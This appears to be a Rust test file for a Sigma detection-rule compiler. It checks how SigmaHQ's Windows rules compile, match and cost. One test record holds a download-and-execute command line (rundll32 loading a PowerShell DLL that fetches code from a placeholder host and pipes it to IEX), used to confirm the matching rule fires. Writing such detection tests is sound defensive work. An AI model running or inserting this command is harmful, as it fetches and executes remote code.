//! SigmaHQ's rules, from a checkout that the environment variable SIGMAHQ names. Nothing of them is in this
//! repository; without a checkout these tests say that they did nothing.

use super::engines::{Record, Rules};
use super::{compare, one_sided};
use schtag::fields::View;
use schtag::rules::{Matcher, Scratch};
use schtag_host::rules::settings::Configuration;
use schtag_host::rules::sigma::{self, Compilation, Refusal, Source};
use schtag_host::run::wasmtime::{Instance, Module, Options, Timestamp};
use schtag_host::wasm::bake::bake;
use schtag_tests::samples::{Sample, Shape};
use schtag_tests::skip::{Tool, missing, skipped};
use std::collections::BTreeMap;
use std::path::PathBuf;

fn checkout() -> Option<PathBuf> {
    let path = std::env::var_os("SIGMAHQ").map(PathBuf::from);
    if path.is_none() {
        missing(Tool::SigmaHq, "set SIGMAHQ to a checkout of https://github.com/SigmaHQ/sigma");
    }
    path
}

/// The folder whose rules a task's actions are judged by before they run.
fn process_creation(checkout: &std::path::Path) -> Vec<Source> {
    let loaded = sigma::load([checkout.join("rules/windows/process_creation")]);
    assert_eq!(loaded.refused, []);
    assert!(loaded.sources.len() > 1_000, "{} rules: is the checkout whole?", loaded.sources.len());
    loaded.sources
}

/// The rules of every folder that are about the Security log and name one of the five events.
fn about_task_events(checkout: &std::path::Path) -> Vec<Source> {
    let folders = [
        "rules",
        "rules-compliance",
        "rules-dfir",
        "rules-emerging-threats",
        "rules-placeholder",
        "rules-threat-hunting",
        "deprecated",
        "unsupported",
    ];
    let loaded = sigma::load(folders.map(|folder| checkout.join(folder)));
    assert_eq!(loaded.refused, []);
    let names_event = |text: &str| {
        text.split(|c: char| !c.is_ascii_digit())
            .any(|number| number.len() == 4 && ("4698"..="4702").contains(&number))
    };
    let is_about = |text: &str| text.contains("service: security") && names_event(text);
    loaded.sources.into_iter().filter(|source| is_about(&source.text)).collect()
}

/// The reason without what is particular to one rule.
fn kind(refusal: &Refusal) -> String {
    let reason = refusal.reason.to_string();
    let kinds = [
        "can never match",
        "aggregations after",
        "its status is `unsupported`",
        "the placeholder",
        "the regular expression",
        "log source",
    ];
    kinds.iter().find(|kind| reason.starts_with(**kind)).map_or(reason, |kind| (*kind).to_owned())
}

fn report(what: &str, files: usize, compilation: &Compilation) {
    println!(
        "{what}: {files} files, {} rules compiled, {} refused",
        compilation.pack.rules.len(),
        compilation.refused.len()
    );
    let mut kinds: BTreeMap<String, Vec<&Refusal>> = BTreeMap::new();
    for refusal in &compilation.refused {
        kinds.entry(kind(refusal)).or_default().push(refusal);
    }
    for (kind, refusals) in kinds {
        println!("  {:5}  {kind}", refusals.len());
        for refusal in refusals.iter().take(12) {
            println!("         {refusal}");
        }
    }
}

#[test]
fn rules_about_the_five_events_compile_or_say_why_not() {
    let Some(checkout) = checkout() else { return };
    let sources = about_task_events(&checkout);
    let compilation = sigma::compile(&sources, &Configuration::default());
    report("rules that name 4698-4702", sources.len(), &compilation);
    assert_eq!(compilation.pack.rules.len() + compilation.refused.len(), sources.len());
    assert!(compilation.pack.rules.len() >= 9);
    let rules = Rules::new(&sources, &Configuration::default());
    let (tally, excused) = compare(&rules, 200, 3);
    println!("  excused: {excused:?}; refused by rsigma: {:?}", rules.not_theirs());
    let one_sided = one_sided(&rules, &tally, 1);
    assert!(one_sided.is_empty(), "{one_sided:#?}");
}

#[test]
fn rules_about_processes_are_decided_alike() {
    let Some(checkout) = checkout() else { return };
    let sources = process_creation(&checkout);
    let rules = Rules::new(&sources, &Configuration::default());
    report("rules/windows/process_creation", sources.len(), &rules.compilation);
    assert_eq!(rules.pack.rules.len() + rules.compilation.refused.len(), sources.len());
    assert!(rules.pack.rules.len() * 100 > sources.len() * 95, "more than 5 % are refused");
    let (tally, excused) = compare(&rules, 12, 4);
    println!("  excused: {excused:?}; refused by rsigma: {:?}", rules.not_theirs());
    let one_sided = one_sided(&rules, &tally, 1);
    let titles: Vec<&str> = one_sided.iter().map(|(title, _)| *title).collect();
    println!("  matched or missed by none of the events: {titles:?}");
    assert!(one_sided.len() * 100 < rules.pack.rules.len() * 5);
}

#[test]
fn all_rules_fit_a_module_and_cost_unrelated_records_nothing() {
    let Some(checkout) = checkout() else { return };
    let Some(base) = std::env::var_os("SCHTAG_BASE_WASM") else {
        skipped("set SCHTAG_BASE_WASM to the base module, as `make test` does");
        return;
    };
    let base = std::fs::read(base).unwrap();
    let sources = process_creation(&checkout);
    let all = sigma::compile(&sources, &Configuration::default());
    let one = sigma::compile(&sources[..1], &Configuration::default());
    assert_eq!(one.pack.rules.len(), 1);
    let mut fuel = Vec::new();
    for (name, pack) in [("1 rule", &one.pack), ("all rules", &all.pack)] {
        let baked = bake(&base, pack, usize::MAX).unwrap();
        let options = Options::default();
        let mut instance = Instance::new(&Module::new(&baked.wasm).unwrap(), &options).unwrap();
        let mut cost = |record: &str| {
            for _ in 0..2 {
                instance.call(b"t", Timestamp::default(), record.as_bytes()).unwrap();
            }
            instance.fuel()
        };
        let unrelated = cost(&Sample::new(4624, "a", "b").record(Shape::Winevtlog));
        let task =
            cost(&Sample::new(4698, "powershell.exe", "-NoProfile -File C:\\x.ps1").record(Shape::Winevtlog));
        println!(
            "{name}: {} patterns, module {} bytes, memory {} bytes; fuel {unrelated} for a logon, {task} for a task",
            pack.patterns.len(),
            baked.wasm.len(),
            instance.memory_size()
        );
        fuel.push(unrelated);
    }
    assert_eq!(fuel.first(), fuel.last());
}

/// Ids are what allowlists and explanations hold on to: a rule keeps its own.
#[test]
fn a_known_rule_matches_what_it_describes() {
    let Some(checkout) = checkout() else { return };
    let compilation = sigma::compile(&process_creation(&checkout), &Configuration::default());
    let matcher = Matcher::new(compilation.pack).unwrap();
    // SigmaHQ's "Potential PowerShell Execution Via DLL".
    let id = "6812a10b-60ea-420c-832f-dfcc33b646ba";
    let record = Record::of(
        View::ProcessCreation,
        &[
            ("Image", r"C:\Windows\System32\rundll32.exe"),
            ("CommandLine", "rundll32.exe PowerShdll.dll,main . { iwr -useb https://x.example } ^| IEX "),
        ],
    );
    let matched = record.matched(&matcher, &mut Scratch::default());
    assert!(matched.iter().any(|rule| matcher.pack().rules[*rule as usize].id == id));
}
